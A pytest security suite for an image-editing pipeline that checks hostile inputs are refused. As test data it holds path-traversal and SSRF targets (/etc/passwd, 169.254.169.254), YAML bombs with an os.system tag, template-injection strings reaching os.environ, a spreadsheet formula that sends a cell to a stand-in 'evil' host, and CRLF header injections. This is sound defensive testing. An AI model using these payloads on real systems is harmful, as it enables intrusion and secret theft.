"""Hostile input through the whole chain: the real command, real sockets, real files.

Each line of defence has tests of its own where it stands; here is what an attacker meets.
"""

import asyncio
import base64
import csv
import http.server
import json
import os
import re
import sqlite3
import struct
import subprocess
import sys
import threading
import zlib
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any, NamedTuple

import pytest

import pipeline
from pipeline.emulator.testing import RunningEmulator
from pipeline.endpoints import open_account, open_endpoint
from pipeline.endpoints.catalog import model_spec
from pipeline.endpoints.downloads import Downloader
from pipeline.errors import BadResponseError, PipelineError
from pipeline.pulse.lines import describe
from tests.conftest import MUG, Shop, environment
from tests.endpoints.memory_drafts import MemoryDraft

Emulators = Callable[..., RunningEmulator]
Command = Callable[..., "subprocess.CompletedProcess[str]"]
PLAIN: dict[str, Any] = {"pictures": "plain"}

SECRET = "sk-very-secret-0123456789abcdef"
KEY = {"AIMLAPI_API_KEY": SECRET}
ESCAPES = "\x1b]0;owned\x07\x1b[31mred\x1b[2J\x9b1m\u202egnp\x08\x00"
ONCE = {"attempts": 1, "no_image_attempts": 1, "wait_initial_s": 0.01, "wait_max_s": 0.02}

MOST_MB = 300
"""Resident memory that a hostile input may cost: the libraries alone take about 100 MB."""


class Asked(NamedTuple):
    method: str
    path: str
    headers: dict[str, str]
    body: bytes


Answer = tuple[int, dict[str, str], bytes]


@contextmanager
def server(answer: Callable[[Asked], Answer]) -> Iterator[tuple[str, list[Asked]]]:
    """A server that says what it likes; its URL, and what it was asked."""
    asked: list[Asked] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def _any(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length", "0")))
            headers = {name.lower(): value for name, value in self.headers.items()}
            one = Asked(self.command, self.path, headers, body)
            asked.append(one)
            status, extra, data = answer(one)
            # As raw bytes: the library would refuse to send what some of these tests are about.
            lines = [f"HTTP/1.1 {status} X", f"Content-Length: {len(data)}"]
            lines += [f"{name}: {value}" for name, value in extra.items()]
            self.wfile.write("\r\n".join([*lines, "", ""]).encode() + data)

        do_GET = do_POST = _any  # noqa: N815 - the library's names

        def log_message(self, *_: object) -> None:
            pass

    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    httpd.daemon_threads = True
    thread = threading.Thread(target=httpd.serve_forever, kwargs={"poll_interval": 0.02})
    thread.start()
    try:
        yield f"http://127.0.0.1:{httpd.server_port}", asked
    finally:
        httpd.shutdown()
        httpd.server_close()
        thread.join()


def as_json(document: Any, status: int = 200, **headers: Any) -> Answer:
    names = {name.replace("_", "-"): value for name, value in headers.items()}
    return status, {"Content-Type": "application/json", **names}, json.dumps(document).encode()


def picture_answer(data: bytes) -> Answer:
    return as_json({"output": {"choices": [{"image_base64": base64.b64encode(data).decode()}]}})


def results(shop: Shop) -> dict[str, dict[str, str]]:
    with (shop.outputs / "results.csv").open(newline="", encoding="utf-8") as file:
        return {row["id"]: row for row in csv.DictReader(file)}


def files(folder: Path) -> dict[Path, bytes]:
    return {path: path.read_bytes() for path in folder.rglob("*") if path.is_file()}


def outcome(shop: Shop, url: str, key: str | None = None) -> tuple[int, str]:
    """A whole run in this process: its exit code, and what the command would say of it."""
    environ = {} if key is None else {"AIMLAPI_API_KEY": key}
    said: list[str] = []

    def observe(event: Any) -> None:
        said.append(describe(event) or "")

    try:
        result = asyncio.run(pipeline.run(shop.job, base_url=url, environ=environ, observe=observe))
    except PipelineError as error:
        return error.exit_code, str(error)
    quiet("\n".join([*said, result.error or ""]))
    return result.exit_code, "\n".join([*said, result.error or ""])


def quiet(text: str) -> None:
    """An error is a line and no traceback, and nothing in it moves a terminal."""
    assert "Traceback" not in text, text
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", text), ascii(text)


MEASURED = """
import atexit, sys
from pathlib import Path

def say():
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("VmHWM"):
            print("PEAK", line.split()[1], file=sys.stderr)

atexit.register(say)
from pipeline.cli import main
main()
"""

linux = pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="as Linux measures it")


def peak_mb(*arguments: Any, cwd: Path, exits: tuple[int, ...]) -> tuple[float, str]:
    """Runs the command; the most resident memory it had, and what it said."""
    done = subprocess.run(
        [sys.executable, "-c", MEASURED, *map(str, arguments)],
        capture_output=True,
        text=True,
        timeout=60,
        env=environment(),
        cwd=cwd,
        stdin=subprocess.DEVNULL,
    )
    assert done.returncode in exits, done.stderr
    assert "Traceback" not in done.stderr, done.stderr
    found = re.search(r"^PEAK (\d+)$", done.stderr, re.MULTILINE)
    assert found, done.stderr
    return int(found[1]) / 1024, done.stdout + done.stderr


# --- manifests and jobs


def test_no_path_of_a_manifest_leads_out_of_its_root(
    shop: Shop, emulator: Emulators, tmp_path: Path
) -> None:
    endpoint = emulator(**PLAIN)
    private = tmp_path / "private"
    private.mkdir()
    (private / "secret.jpg").write_bytes(MUG.read_bytes())
    shop.with_edits(1)
    inside = shop.manifest.parent
    (inside / "link.jpg").symlink_to(private / "secret.jpg")
    (inside / "folder").symlink_to(private)
    (inside / "loop").symlink_to(inside / "loop")
    entries = [
        "../../private/secret.jpg",
        str(private / "secret.jpg"),
        "link.jpg",
        "folder/secret.jpg",
        "folder/*.jpg",
        "../../private/*.jpg",
        "**/../../../private/*.jpg",
        (private / "secret.jpg").as_uri(),
        "FILE://" + str(private / "secret.jpg"),
        "loop",
        "/dev/zero",
        "/proc/self/environ",
    ]
    for entry in entries:
        shop.write(f'id,images\na,"{entry}"\n')
        code, said = outcome(shop, endpoint.url)
        assert code in (2, 3), (entry, said)
        quiet(said)
    assert endpoint.requests == [], "not one of them was sent"


def test_no_id_and_no_output_name_writes_outside_of_the_outputs(
    shop: Shop, emulator: Emulators, tmp_path: Path
) -> None:
    endpoint = emulator(**PLAIN)
    shop.with_edits(1)
    before = files(tmp_path).keys()
    names = ["../../evil", "/tmp/evil", "a/../../../evil", "..", "C:\\evil", "\\\\host\\evil"]
    names += ["evil\0.png", "CON", "~root", "$HOME", "a\nb", "\x1b[31m"]
    for name in names:
        with shop.manifest.open("w", newline="") as file:
            csv.writer(file).writerows([["id", "images"], [name, "mug.jpg"]])
        code, said = outcome(shop, endpoint.url)
        assert code in (0, 2), (name, said)
        quiet(said)
    for template in ("../../../{{ id }}", "/tmp/{{ id }}", "{{ id }}/../../../x"):
        shop.write("id,images\nfine,mug.jpg\n", outputs={"image": template})
        code, said = outcome(shop, endpoint.url)
        assert code == 2, (template, said)
    new = files(tmp_path).keys() - before
    assert all(shop.outputs in path.parents for path in new), new
    for path in (shop.outputs / "images").rglob("*"):
        assert path.resolve().is_relative_to(shop.outputs.resolve())


def test_the_outputs_cannot_be_led_elsewhere_by_a_name_of_a_link(
    command: Command, shop: Shop, emulator: Emulators, tmp_path: Path
) -> None:
    """A link that lies where a picture will: it is replaced, and what it points to is not."""
    endpoint = emulator(**PLAIN)
    shop.with_edits(1)
    precious = tmp_path / "precious"
    precious.write_text("mine")
    (shop.outputs / "images").mkdir(parents=True)
    (shop.outputs / "images" / "e0.png").symlink_to(precious)
    assert command("run", shop.job, "--base-url", endpoint.url).returncode == 0
    assert precious.read_text() == "mine"
    assert not (shop.outputs / "images" / "e0.png").is_symlink()


LAUGHS = "a0: &a0 [x]\n" + "".join([
    f"a{n}: &a{n} [{','.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 12)
])  # fmt: skip


@linux
@pytest.mark.parametrize(
    "bomb",
    [
        LAUGHS + "manifest: *a11\n",
        "manifest: " + "[" * 200_000,
        "manifest: " + "{a: " * 100_000,
        "a: &a\n  b: *a\nmanifest: *a\n",
        "manifest: !!python/object/apply:os.system ['touch owned']\n",
        "manifest: !!binary |\n  " + "A" * 1000 + "\n",
        "? " * 50_000,
    ],
    ids=["laughs", "lists", "maps", "itself", "python", "binary", "keys"],
)
def test_yaml_bombs_are_refused_in_a_moment_and_in_little_memory(
    tmp_path: Path, shop: Shop, bomb: str
) -> None:
    job = tmp_path / "bomb.yaml"
    job.write_text(bomb)
    peak, said = peak_mb("check", job, cwd=tmp_path, exits=(2,))
    assert peak < MOST_MB
    assert "error: bomb.yaml" in said
    shop.with_edits(1, manifest="../manifests/bomb.yaml")
    (shop.manifest.parent / "bomb.yaml").write_text(bomb.replace("manifest:", "image_sets:"))
    peak, said = peak_mb("check", shop.job, cwd=tmp_path, exits=(2,))
    assert peak < MOST_MB
    assert not (tmp_path / "owned").exists()


@linux
@pytest.mark.parametrize(
    ("opening", "fill"),
    [
        ("a,mug.jpg,", b"x" * 65536),
        ('a,mug.jpg,"', b"x" * 65536),
        ('a,mug.jpg,"', (b"x" * 999 + b"\n") * 64),
    ],
    ids=["line", "quoted", "quoted lines"],
)
def test_a_cell_without_an_end_is_cut_off(
    tmp_path: Path, shop: Shop, opening: str, fill: bytes
) -> None:
    """A gigabyte comes through a pipe, as far as anybody wants it."""
    shop.with_edits(1)
    shop.manifest.unlink()
    os.mkfifo(shop.manifest)
    sent = 0

    def write() -> None:
        nonlocal sent
        try:
            with shop.manifest.open("wb", buffering=0) as pipe:
                pipe.write(f"id,images,prompt\n{opening}".encode())
                while sent < 1 << 30:
                    sent += pipe.write(fill) or 0
        except BrokenPipeError:
            pass

    writer = threading.Thread(target=write, daemon=True)
    writer.start()
    peak, said = peak_mb("check", shop.job, cwd=tmp_path, exits=(2,))
    writer.join(60)
    assert sent < 256 << 20, "it did not wait for the end"
    assert peak < MOST_MB
    assert "shop.csv:2" in said


def test_a_manifest_that_is_a_pipe_is_read_once(shop: Shop, emulator: Emulators) -> None:
    endpoint = emulator(**PLAIN)
    shop.with_edits(3)
    text = shop.manifest.read_text()
    shop.manifest.unlink()
    os.mkfifo(shop.manifest)
    writer = threading.Thread(target=lambda: shop.manifest.write_text(text), daemon=True)
    writer.start()
    result = asyncio.run(pipeline.run(shop.job, base_url=endpoint.url, environ={}))
    assert result.totals.succeeded == 3
    writer.join(60)


def test_templates_reach_nothing_but_their_row(shop: Shop, emulator: Emulators) -> None:
    endpoint = emulator(**PLAIN)
    for template in (
        "{{ ''.__class__.__mro__ }}",
        "{{ id.__init__.__globals__ }}",
        "{{ cycler.__init__.__globals__.os.environ }}",
        "{{ self._TemplateReference__context }}",
        "{{ request }}{{ config }}",
        "{% include '/etc/passwd' %}",
        "{% import 'os' as os %}{{ os }}",
        "{{ 'x' * 1000000000 }}",
        "{{ 9 ** 9 ** 9 }}",
        "{% for a in range(99999999) %}x{% endfor %}",
        "{{ '%s' | format(id) }}{{ '{0.__class__}'.format(id) }}",
        "{{ [1] | map(attribute='__class__') | list }}",
        "{{ row | attr('__class__') }}",
    ):
        for where in ("row", "job"):
            if where == "row":
                shop.write("id,images\na,mug.jpg\n")
                with shop.manifest.open("w", newline="") as file:
                    rows = [["id", "images", "prompt"], ["a", "mug.jpg", template]]
                    csv.writer(file).writerows(rows)
            else:
                shop.write("id,images\na,mug.jpg\n", prompt=template)
            code, said = outcome(shop, endpoint.url, SECRET)
            assert code == 2, (template, said)
            quiet(said)
            assert SECRET not in said
    assert endpoint.requests == []


def test_formulas_do_not_reach_a_spreadsheet(
    command: Command, shop: Shop, emulator: Emulators
) -> None:
    endpoint = emulator(**PLAIN)
    evil = '=HYPERLINK("http://evil/?"&A1,"click")'
    shop.with_edits(1)
    with shop.manifest.open("w", newline="") as file:
        rows = [["id", "images", "prompt", "note", "@column"]]
        rows += [["a", "mug.jpg", evil, "+1+cmd|' /C calc'!A0", "-2+3"]]
        rows += [["=b", "mug.jpg", "fine", "\t=1", "＝1"], ["c", "mug.jpg", "ok", "-5", "+7.5"]]
        rows += [["d", "gone.jpg", "@SUM(1)", "\r=1", "=1"]]
        csv.writer(file).writerows(rows)
    done = command("run", shop.job, "--base-url", endpoint.url)
    assert done.returncode == 3, done.stderr
    with (shop.outputs / "results.csv").open(newline="", encoding="utf-8") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    wrong = [cell for cell in cells if re.match(r"[=+\-@\t\r＝＋－＠](?![0-9.]+$)", cell)]
    assert wrong == []
    assert f"'{evil}" in cells
    assert {"-5", "+7.5"} <= set(cells), "numbers stay numbers"


# --- pictures


def bomb(side: int) -> bytes:
    """A whole, valid, black PNG: a few kilobytes that unpack to ``side`` x ``side`` pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        check = struct.pack(">I", zlib.crc32(kind + data))
        return struct.pack(">I", len(data)) + kind + data + check

    packer = zlib.compressobj(1)
    rows = b"".join(packer.compress(bytes(1 + side // 8) * 100) for _ in range(side // 100))
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    pixels = rows + packer.flush()
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


@pytest.fixture(scope="module")
def big() -> bytes:
    return bomb(24_000)


@linux
def test_a_picture_that_unpacks_to_gigabytes_is_neither_sent_nor_stored(
    tmp_path: Path, shop: Shop, big: bytes
) -> None:
    answer = [MUG.read_bytes()]
    with server(lambda asked: picture_answer(answer[0])) as (url, asked):
        shop.write("id,images\nin,mug.jpg\n", retry=ONCE)
        (shop.manifest.parent / "mug.jpg").write_bytes(big)
        peak, _ = peak_mb("run", shop.job, "--base-url", url, "--yes", cwd=tmp_path, exits=(3,))
        assert peak < MOST_MB
        assert results(shop)["in"]["error_code"] == "input"
        assert "24000 x 24000" in results(shop)["in"]["error_message"]
        assert [one for one in asked if one.method == "POST"] == []

        answer[0] = big
        shop.write("id,images\nout,mug.jpg\n", retry=ONCE)
        peak, _ = peak_mb("run", shop.job, "--base-url", url, "--yes", cwd=tmp_path, exits=(3,))
        assert peak < MOST_MB
    assert results(shop)["out"]["error_code"] == "bad_response"
    assert list((shop.outputs / "images").glob("*")) == []


@linux
@pytest.mark.parametrize("fault", ["gzip_bomb", "endless_body"])
def test_an_answer_without_end_is_cut_off(
    tmp_path: Path, shop: Shop, emulator: Emulators, fault: str
) -> None:
    endpoint = emulator(
        **PLAIN, faults={fault: 1.0}, max_faulty_attempts=99, bomb_bytes=200_000_000
    )
    shop.with_edits(1, retry=ONCE)
    peak, _ = peak_mb(
        "run", shop.job, "--base-url", endpoint.url, "--yes", cwd=tmp_path, exits=(3,)
    )
    assert peak < MOST_MB
    assert {row["error_code"] for row in results(shop).values()} <= {
        "bad_response",
        "connection_failed",
    }
    assert not list((shop.outputs / ".drafts").glob("*"))


# --- the other side of the wire


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1:{port}/x.png",
        "http://localhost:{port}/x.png",
        "http://127.1:{port}/x.png",
        "http://0x7f000001:{port}/x.png",
        "http://017700000001:{port}/x.png",
        "http://2130706433:{port}/x.png",
        "http://0:{port}/x.png",
        "http://0.0.0.0:{port}/x.png",
        "http://[::1]:{port}/x.png",
        "http://[::ffff:127.0.0.1]:{port}/x.png",
        "http://[::ffff:7f00:1]:{port}/x.png",
        "http://169.254.169.254/latest/meta-data/",
        "http://10.0.0.1/",
        "http://user:password@127.0.0.1:{port}/x.png",
        "http://127.0.0.1.:{port}/x.png",
        "http://１２７.0.0.1:{port}/x.png",
        "file:///etc/passwd",
        "FILE:/etc/passwd",
        "data:text/html,x",
        "//127.0.0.1:{port}/x.png",
        "http:/127.0.0.1:{port}/x.png",
    ],
)
async def test_a_public_endpoint_leads_to_no_address_of_this_network(url: str) -> None:
    with server(lambda asked: (200, {}, MUG.read_bytes())) as (base, asked):
        downloader = Downloader(
            timeout_s=5, connect_timeout_s=1, public_only=True, user_agent="t", waits_s=()
        )
        draft = MemoryDraft()
        try:
            with pytest.raises(BadResponseError):
                await downloader.fetch(url.format(port=base.rpartition(":")[2]), draft)
        finally:
            await downloader.close()
        assert asked == []
    assert draft.size == 0


@pytest.mark.parametrize("url", ["file:///etc/passwd", "FILE:///etc/hostname", "ftp://x/y.png"])
def test_a_result_that_is_no_web_address_reads_nothing(
    command: Command, shop: Shop, url: str
) -> None:
    def answer(asked: Asked) -> Answer:
        return as_json({"data": [{"url": url}]}) if asked.method == "POST" else (404, {}, b"")

    with server(answer) as (base, _):
        shop.with_edits(1, retry=ONCE)
        done = command("run", shop.job, "--base-url", base)
    assert done.returncode == 3
    assert results(shop)["e0"]["error_code"] == "bad_response"
    stored = b"".join(files(shop.outputs).values())
    assert b"root:" not in stored


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_the_key_follows_no_redirect(command: Command, shop: Shop, status: int) -> None:
    with (
        server(lambda asked: picture_answer(MUG.read_bytes())) as (elsewhere, stolen),
        server(lambda asked: (status, {"Location": f"{elsewhere}{asked.path}"}, b"")) as (base, _),
    ):
        shop.with_edits(2, retry=ONCE)
        done = command("run", shop.job, "--base-url", base, env=KEY)
    assert done.returncode == 3, done.stderr
    assert stolen == []
    assert "Redirects are not followed" in results(shop)["e0"]["error_message"]


def test_the_key_goes_to_no_picture_and_to_no_place_that_it_leads_to(
    command: Command, shop: Shop
) -> None:
    def answer(asked: Asked) -> Answer:
        if asked.method == "POST":
            return as_json({"images": [{"url": f"{there[0]}/a.png"}]}, Set_Cookie="s=1")
        return as_json({"data": [], "current_balance": 5}, status=503)

    def pictures(asked: Asked) -> Answer:
        if asked.path == "/a.png":
            return 302, {"Location": f"{there[0]}/b.png", "Set-Cookie": "t=1"}, b""
        return 200, {}, MUG.read_bytes()

    there: list[str] = []
    with server(pictures) as (elsewhere, asked), server(answer) as (base, _):
        there.append(elsewhere)
        done = command("run", shop.with_edits(1).job, "--base-url", base, env=KEY)
    assert done.returncode == 0, done.stderr
    assert [one.path for one in asked] == ["/a.png", "/b.png"]
    for one in asked:
        assert SECRET not in str(one)
        assert not {"authorization", "cookie", "x-client-request-id"} & one.headers.keys()


def test_nothing_that_a_person_writes_becomes_a_header(
    command: Command, shop: Shop, emulator: Emulators
) -> None:
    endpoint = emulator(**PLAIN)
    evil = "a\r\nX-Evil: 1"
    shop.with_edits(1)
    with shop.manifest.open("w", newline="") as file:
        csv.writer(file).writerows(
            [["id", "images", "prompt"], ["ok", "mug.jpg", evil], ["b", "mug.jpg", "\r\n\r\nX"]]
        )
    assert command("run", shop.job, "--base-url", endpoint.url).returncode == 0
    for seen in endpoint.requests:
        assert not [name for name in seen["headers"] if "evil" in name.lower()]
        assert re.fullmatch(r"[A-Za-z0-9._:-]{1,128}", seen["client_request_id"])
    assert len(endpoint.requests) == 2
    for key in (f"{SECRET}\r\nX-Evil: 1", f"{SECRET}\nX", f"{SECRET} x", f"{SECRET}\x7f", "ключ"):
        code, said = outcome(shop.with_edits(2), endpoint.url, key)
        assert code == 2, said
        assert "endpoint.api_key_env" in said
        assert SECRET not in said
        quiet(said)
    for url in (
        f"{endpoint.url}/\r\nX-Evil: 1",
        f"{endpoint.url}/ HTTP/1.1\r\nX-Evil: 1",
        f"{endpoint.url}\tx",
    ):
        code, said = outcome(shop, url)
        assert code == 2, (url, said)
        quiet(said)
    assert len(endpoint.requests) == 2


def test_what_a_server_says_moves_no_terminal(command: Command, shop: Shop) -> None:
    message = f"{ESCAPES}=1+1 [bold red]markup[/] [/x] \r\nnext line"

    def answer(asked: Asked) -> Answer:
        if asked.path.startswith("/v"):
            n = sum(one.method == "POST" for one in everything)
            headers = {"x-inference-id": "id\x9b1m\u202e"}
            if asked.method == "GET":
                return as_json({"message": message}, status=500)
            if n % 3 == 0:
                return as_json({"message": message}, 400, **headers)
            if n % 3 == 1:
                return as_json({"description": message, "data": []}, 200, **headers)
            return 422, headers, f"<html>{message}</html>".encode()
        return 404, {}, b""

    with server(answer) as (base, everything):
        done = command("run", shop.with_edits(6, retry=ONCE).job, "--base-url", base)
        status = command("status", shop.job)
    assert done.returncode == 3, done.stderr
    quiet(done.stdout + done.stderr)
    quiet(status.stdout + status.stderr)
    assert "[bold red]markup[/] [/x]" in done.stderr, "words stay words"
    assert "[bold red]markup[/]" in " ".join(done.stdout.split())
    assert {row["error_code"] for row in results(shop).values()} == {
        "request_rejected",
        "no_image",
    }
    for row in results(shop).values():
        assert row["error_message"]
        assert not re.search(r"[\x00-\x1f\x7f-\x9f\u202e]", row["error_message"])
    ledger = sqlite3.connect(shop.outputs / "ledger.db")
    for text in ledger.execute(
        "SELECT coalesce(error_message, '') || coalesce(inference_id, '') FROM attempts"
        " UNION ALL SELECT error_message FROM edits"
    ):
        assert "\x1b" not in text[0]
        assert "\x9b" not in text[0]
    ledger.close()


# --- the key


def test_the_key_is_in_nothing_that_a_failing_run_leaves_or_says(
    command: Command, shop: Shop, tmp_path: Path
) -> None:
    """The server does all it can to get it written down: it sends the key back, everywhere."""
    replies: list[Answer] = [
        as_json({"message": f"bad key {SECRET}"}, status=400, x_inference_id=SECRET),
        as_json({"message": [f"Bearer {SECRET}"], "requestId": SECRET}, status=422),
        (500, {"x-inference-id": f"i-{SECRET}"}, f"<html>{SECRET}</html>".encode()),
        (302, {"Location": f"http://127.0.0.1:9/{SECRET}"}, b""),
        as_json({"data": [], "description": f"no picture for {SECRET}"}, x_inference_id=SECRET),
        as_json({"data": [{"b64_json": f"not base64 {SECRET}!"}], "note": SECRET}),
        as_json({"data": [{"url": f"http://127.0.0.1:9/{SECRET}.png?k={SECRET}"}]}),
        as_json({"data": [{"url": f"{SECRET}://x/"}]}),
        (200, {"Content-Encoding": SECRET}, b"x"),
        (200, {}, f"{{'{SECRET}".encode()),
        as_json({"message": SECRET}, status=429, Retry_After="0"),
        (200, {"x-aimlapi-usd-spent": SECRET, "Content-Type": SECRET}, b"{}"),
    ]
    turn = iter(range(10**6))

    def answer(asked: Asked) -> Answer:
        if asked.path.startswith("/v1/models"):
            return as_json({"message": SECRET}, status=500)
        if asked.path.startswith("/v2"):
            return 502, {}, f"{asked.headers['authorization']}".encode()
        return replies[next(turn) % len(replies)]

    with server(answer) as (base, asked):
        shop.with_edits(len(replies), retry=ONCE, limits={"concurrency": 1})
        (shop.job.parent / ".env").write_text(f"AIMLAPI_API_KEY={SECRET}\n")
        verbose = {"PYTHONASYNCIODEBUG": "1", "PYTHONDEVMODE": "1"}
        said = [
            command("run", shop.job, "--base-url", base, env=verbose),
            command("run", shop.job, "--base-url", base, "--json"),
            command("check", shop.job, "--base-url", base, "--online", "--json"),
            command("status", shop.job),
        ]
    assert {one.headers.get("authorization") for one in asked} == {f"Bearer {SECRET}", None}
    assert said[0].returncode == 3, said[0].stderr
    assert "[key]" in said[0].stderr, "it was told, and taken out"
    for done in said:
        assert SECRET not in done.stdout + done.stderr
        assert "Traceback" not in done.stderr
    for path, content in files(tmp_path).items():
        if path.name != ".env":
            assert SECRET.encode() not in content, path
            assert base64.b64encode(SECRET.encode()) not in content, path
    assert any("unparsed" in str(path) for path in files(shop.outputs))


async def test_no_object_shows_the_key(shop: Shop, emulator: Emulators) -> None:
    base_url = emulator().url
    model = model_spec("google/gemini-2.5-flash-image-edit")
    endpoint = open_endpoint("aimlapi", model=model, base_url=base_url, api_key=SECRET)
    account = open_account("aimlapi", base_url=base_url, api_key=SECRET)
    job = pipeline.load_job(shop.with_edits(1).job)
    events: list[Any] = []
    result = await pipeline.run(
        job, base_url=base_url, environ={"AIMLAPI_API_KEY": SECRET}, observe=events.append
    )
    await endpoint.close()
    await account.close()
    for one in (endpoint, account, job, job.endpoint, result, *events):
        assert SECRET not in repr(one) + str(one)


def test_a_fatal_error_shows_no_key_either(command: Command, shop: Shop, tmp_path: Path) -> None:
    with server(lambda asked: as_json({"message": f"no {SECRET}"}, status=401)) as (base, _):
        shop.with_edits(3)
        done = [
            command("run", shop.job, "--base-url", base, *more, env=KEY)
            for more in ((), ("--no-preflight",), ("--json",))
        ]
    assert [one.returncode for one in done] == [4, 4, 4]
    assert all("[key]" in one.stdout + one.stderr for one in done)
    assert all(SECRET not in one.stdout + one.stderr for one in done)
    assert all(SECRET.encode() not in content for content in files(tmp_path).values())
